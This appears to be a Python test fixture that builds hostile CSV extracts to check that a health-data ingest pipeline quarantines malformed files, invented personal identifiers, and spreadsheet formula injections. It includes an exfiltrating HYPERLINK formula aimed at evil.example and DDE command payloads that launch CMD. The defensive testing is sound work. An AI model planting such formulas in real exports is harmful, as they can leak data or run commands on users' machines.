"""A corpus of hostile extract files, generated on demand so the repository holds no 10 MB fixture.

Every case is a function writing one or more files into a folder; `CASES` maps its id to it and to the
outcome the ingest must reach. Identities are invented; `SOURCE_NAMES` lists every name used, which the
scan must never find in the lake.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.extract_builder import IDENTIFIERS, NIR, act_row, diagnosis_row, write_extract

SOURCE_NAMES = (
    "Dupont",
    "Lefèvre",
    "Lefevre",
    "Jeanne",
    "Tournesol",
    "Marcel",
    "Haddock",
    "Castafiore",
    "Bianca",
)
EMAIL = "bianca.castafiore@moulinsart.fr"
PHONE_COMPACT = "0612345678"
HUGE = 10 * 1024 * 1024


def _prescription(act_id: str = "1", **overrides: str) -> dict[str, str]:
    row = {
        "num_acte": act_id,
        "ligne": "1",
        "code_cip13": "3400907502305",
        "code_atc": "N02BE01",
        "libelle": "PARACETAMOL 1000MG CPR",
        "dose_valeur": "1000",
        "dose_unite": "mg",
        "prises_par_jour": "3",
        "duree_jours": "5",
        "posologie": f"appeler {IDENTIFIERS['phone']}",
    }
    row.update(overrides)
    return row


def _care_site(**overrides: str) -> dict[str, str]:
    row = {
        "code_site": "A75001-B",
        "type_site": "BASE",
        "nom_site": "Base de Paris 11",
        "commune_insee": "75111",
        "code_postal": "75011",
    }
    row.update(overrides)
    return row


@dataclass(frozen=True)
class Case:
    write: Callable[[Path], list[Path]]
    # "file:<reason>" (whole file quarantined), "row:<field>:<rule>" (that row quarantined, with that
    # reason) or "landed" (nothing to quarantine: the hostile part is dropped or ignored)
    expect: str
    # Why a case is known to get through today (xfail, strict): the proposed fix is in the report.
    leaks: str | None = None


def _acts(folder: Path, *rows: dict[str, str], **kw: str) -> list[Path]:
    return [write_extract(folder, "actes", list(rows), **kw)]


def _raw(folder: Path, name: str, data: bytes) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(data)
    return [path]


def _valid_acts_bytes(folder: Path) -> bytes:
    (path,) = _acts(folder / "tmpl", act_row("1"))
    return path.read_bytes()


def garbage(folder: Path) -> list[Path]:
    rng = random.Random(5)
    return _raw(folder, "A75001_20240115_actes.csv", bytes(rng.randrange(256) for _ in range(4096)))


def unbalanced_quote(folder: Path) -> list[Path]:
    text = _valid_acts_bytes(folder).decode()
    lines = text.splitlines()
    lines.append(lines[1].replace("VAD", '"VAD', 1))
    return _raw(folder, "A75001_20240115_actes.csv", ("\n".join(lines) + "\n").encode())


def unclosed_quote_mid_file(folder: Path) -> list[Path]:
    """An unclosed quote in the first row, plain rows after it: it must not run into them."""
    rows = [act_row(n, note_appel="appel du fils") for n in ("1", "2", "3")]
    (path,) = _acts(folder / "tmpl", *rows)
    lines = path.read_text().splitlines()
    lines[1] = lines[1].replace(";VAD;", ';"VAD;', 1)
    return _raw(folder, "A75001_20240115_actes.csv", ("\n".join(lines) + "\n").encode())


def cut_mid_row(folder: Path) -> list[Path]:
    return _raw(folder, "A75001_20240115_actes.csv", _valid_acts_bytes(folder)[:-7])


def huge_field_in_code(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1"), act_row("2", num_acte="9" * HUGE))


def huge_field_in_dropped_text(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1", note_appel=f"{IDENTIFIERS['note_name']} " * (HUGE // 17)))


def million_empty_lines(folder: Path) -> list[Path]:
    return _raw(folder, "A75001_20240115_actes.csv", _valid_acts_bytes(folder) + b"\n" * 1_000_000)


def invalid_cp1252(folder: Path) -> list[Path]:
    data = _valid_acts_bytes(folder).replace("è".encode(), b"\x81")
    return _raw(folder, "A75001_20240115_actes.csv", data)


def mixed_encodings(folder: Path) -> list[Path]:
    text = _valid_acts_bytes(folder)
    second = text.splitlines()[1].replace(b'"1"', b"2").replace(b";1;", b";2;", 1)
    return _raw(
        folder, "A75001_20240115_actes.csv", text + second.decode().replace("è", "é").encode("cp1252") + b"\n"
    )


def nir_in_act_number(folder: Path) -> list[Path]:
    return _acts(folder, act_row(NIR))


def nir_in_diagnosis_act_number(folder: Path) -> list[Path]:
    return [write_extract(folder, "diagnostics", [diagnosis_row(NIR)])]


def phone_in_site_code(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1", code_site=PHONE_COMPACT))


def spaced_phone_in_site_code(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1", code_site=IDENTIFIERS["phone"]))


def name_in_drug_label(folder: Path) -> list[Path]:
    return [write_extract(folder, "prescriptions", [_prescription(libelle="DUPONT JEANNE")])]


def name_in_code(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1", type_acte="Tournesol"))


def email_in_commune(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1", patient_commune_insee=EMAIL))


def address_in_icd10(folder: Path) -> list[Path]:
    return [write_extract(folder, "diagnostics", [diagnosis_row("1", code_cim10=IDENTIFIERS["address"])])]


def hyperlink_formula_in_label(folder: Path) -> list[Path]:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"ok")'
    return [write_extract(folder, "prescriptions", [_prescription(libelle=formula)])]


def at_formula_in_label(folder: Path) -> list[Path]:
    return [write_extract(folder, "prescriptions", [_prescription(libelle="@SUM(1+1)*CMD|' /C CALC'!A0")])]


def plus_formula_in_label(folder: Path) -> list[Path]:
    return [write_extract(folder, "prescriptions", [_prescription(libelle="+CMD /C CALC")])]


def formula_in_site_name(folder: Path) -> list[Path]:
    name = '=HYPERLINK("http://evil.example","Base")'
    return [write_extract(folder, "structures", [_care_site(nom_site=name)])]


def person_in_site_name(folder: Path) -> list[Path]:
    name = f"Cabinet Dr Haddock, {IDENTIFIERS['address']}, {EMAIL}"
    return [write_extract(folder, "structures", [_care_site(nom_site=name)])]


def name_as_association_code(folder: Path) -> list[Path]:
    return _acts(folder, act_row("1"), association="DUPONT")


CASES: dict[str, Case] = {
    "garbage-bytes": Case(garbage, "file:encoding"),
    "unbalanced-quote": Case(unbalanced_quote, "row:*:quoting"),
    "unclosed-quote-mid-file": Case(unclosed_quote_mid_file, "row:*:quoting"),
    "cut-mid-row": Case(cut_mid_row, "file:truncated"),
    "10mb-field-in-act-number": Case(huge_field_in_code, "row:*:quoting"),
    "10mb-dropped-free-text": Case(huge_field_in_dropped_text, "row:*:quoting"),
    "million-empty-lines": Case(million_empty_lines, "landed"),
    "invalid-cp1252-byte": Case(invalid_cp1252, "file:encoding"),
    "mixed-encodings": Case(mixed_encodings, "file:double_encoded"),
    "nir-in-act-number": Case(nir_in_act_number, "row:num_acte:no_identifier"),
    "nir-in-diagnosis-act-number": Case(nir_in_diagnosis_act_number, "row:num_acte:no_identifier"),
    "phone-in-site-code": Case(phone_in_site_code, "row:code_site:no_identifier"),
    "spaced-phone-in-site-code": Case(spaced_phone_in_site_code, "row:code_site:pattern"),
    "name-in-drug-label": Case(
        name_in_drug_label,
        "row:libelle:pattern",
        leaks="`libelle` is upper-case text by pattern, and a name in capitals has the same shape as a "
        "drug label; a fix needs the national drug referential (label of the row's CIP13), which the "
        "project does not ship",
    ),
    "name-in-act-type": Case(name_in_code, "row:type_acte:unknown_code"),
    "email-in-commune": Case(email_in_commune, "row:patient_commune_insee:pattern"),
    "address-in-icd10": Case(address_in_icd10, "row:code_cim10:pattern"),
    "hyperlink-formula-in-label": Case(hyperlink_formula_in_label, "row:libelle:pattern"),
    "at-formula-in-label": Case(at_formula_in_label, "row:libelle:pattern"),
    "plus-formula-in-label": Case(plus_formula_in_label, "row:libelle:pattern"),
    "formula-in-site-name": Case(formula_in_site_name, "row:nom_site:pattern"),
    "person-in-site-name": Case(person_in_site_name, "row:nom_site:pattern"),
    "name-as-association-code": Case(name_as_association_code, "file:unknown_association"),
}
